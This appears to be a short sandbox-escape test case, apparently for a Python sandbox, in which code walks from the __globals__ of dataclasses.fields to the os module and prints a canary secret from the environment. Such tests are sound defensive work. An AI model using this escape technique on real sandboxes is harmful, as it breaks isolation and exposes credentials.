# attack: the globals of a host (stdlib) function handed to the sandbox by a module
import dataclasses
g = getattr(dataclasses.fields, "__globals__")
print(g["sys"].modules["os"].environ["MONTY_CANARY_SECRET"])
